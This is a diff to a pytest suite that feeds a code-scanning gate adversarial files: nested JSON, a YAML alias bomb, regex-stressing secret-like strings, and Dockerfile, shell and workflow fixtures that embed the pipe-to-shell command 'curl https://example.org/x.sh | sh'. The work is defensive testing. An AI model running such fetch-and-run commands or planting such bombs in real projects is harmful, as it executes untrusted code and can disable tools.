@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import subprocess
 import sys
 import sysconfig
@@ -79,12 +80,38 @@ NOTEBOOKS: dict[str, tuple[str | bytes, set[str]]] = {
     "nested": ("[" * 100_000, {DEEP}),
     "large": (notebook(LOAD, note="x" * 21_000_000), {"input/too-large"}),
     "cells": (notebook(*["x = 1"] * 50_000, LOAD), {FOUND}),
+    "million-cells": ('{"cells":[' + "{}," * 1_000_000 + "{}" + REST, {"input/too-large"}),
     "future": (notebook(LOAD, nbformat=99), {FOUND}),
     "other-type": (notebook(LOAD).replace('"code"', '"Code"'), {FOUND}),
     "not-a-number": (notebook(LOAD)[:-1] + ', "x": NaN}', {FOUND}),
     "lone-surrogate": (notebook("x = '\\ud800'\n" + LOAD), {FOUND}),
     "mark": (b"\xef\xbb\xbf" + notebook(LOAD).encode(), {FOUND}),
     "wide": (notebook(LOAD).encode("utf-16"), {FOUND}),
+}
+
+
+def nested(script: str, times: int) -> str:
+    for _ in range(times):
+        script = f"sh -c {shlex.quote(script)}"
+    return script
+
+
+PIPE = "curl https://example.org/x.sh | sh"
+BOMB = "".join(
+    f"{name}: &{name} [{', '.join([f'*{above}'] * 8)}]\n" for above, name in zip("abcdefgh", "bcdefghi", strict=True)
+)
+OTHERS: dict[str, tuple[str | bytes, set[str]]] = {
+    "deep.sh": ("$(" * 5_000 + PIPE + ")" * 5_000 + "\n", {DEEP}),
+    "subshells.sh": ("(" * 5_000 + PIPE + ")" * 5_000 + "\n", {DEEP, "download/pipe-to-shell"}),
+    "scripts.sh": (nested(PIPE, 10), {DEEP}),
+    "Dockerfile": ("FROM scratch@sha256:" + "0" * 64 + "\nRUN " + "\\\n" * 100_000 + PIPE, {"download/pipe-to-shell"}),
+    ".github/workflows/bomb.yml": (f"a: &a [x]\n{BOMB}jobs: {{a: {{steps: [run: {PIPE}]}}}}\n", {UNPARSED}),
+    ".github/workflows/circle.yml": (f"a: &a\n  b: *a\njobs: {{a: {{steps: [run: {PIPE}]}}}}\n", {UNPARSED}),
+    ".github/workflows/long.yml": (f"#{'x' * 500_000}\njobs: {{a: {{steps: [run: {PIPE}]}}}}\n", {UNPARSED}),
+    "compose.yaml": ("[" * 100_000, {UNPARSED}),
+    # -- what detectors search: each is a text in which a careless expression tries again and again
+    "tries.md": ("password=" * 50_000 + "http://a:" * 50_000 + "@" * 50_000 + "AKIA" * 50_000 + "eyJ" * 50_000, set()),
+    "tries.py": (LOAD + f'x = "{"s3://" * 20_000}"\npassword = "{"a-" * 50_000}"\n', {FOUND}),
 }
 NAMES = ["--config=x.py", "-q.py", "::error::x.py", "sp ace.py", "UPPER.PY", "x.pyw", "no-extension"]
 if os.name == "posix":
@@ -93,6 +120,7 @@ if os.name == "posix":
 FILES: dict[str, tuple[str | bytes, set[str]]] = {
     **{f"{name}.py": given for name, given in PYTHON.items()},
     **{f"{name}.ipynb": given for name, given in NOTEBOOKS.items()},
+    **OTHERS,
     **{name: ("#!/usr/bin/env python3\n" + LOAD, {FOUND}) for name in NAMES},
 }
 
@@ -107,8 +135,9 @@ def limited() -> None:
 def report(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, dict[str, set[str]], str]:
     """(Exit code, rules that block by path, standard output) of one run over everything."""
     folder = tmp_path_factory.mktemp("hostile")
-    (folder / ".git").mkdir()
+    subprocess.run(["git", "init", "-q"], cwd=folder, env=environment(), check=True)
     for name, (content, _) in FILES.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())
     program = Path(sysconfig.get_path("scripts"), "mlgate")
     done = subprocess.run(
@@ -133,7 +162,7 @@ def report(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, dict[str, set
 def test_nothing_blinds_the_gate(report: tuple[int, dict[str, set[str]], str], name: str) -> None:
     code, found, _ = report
     assert code == 1
-    assert found.get(name) == FILES[name][1]
+    assert found.get(name, set()) == FILES[name][1]
 
 
 @pytest.mark.xdist_group("hostile")
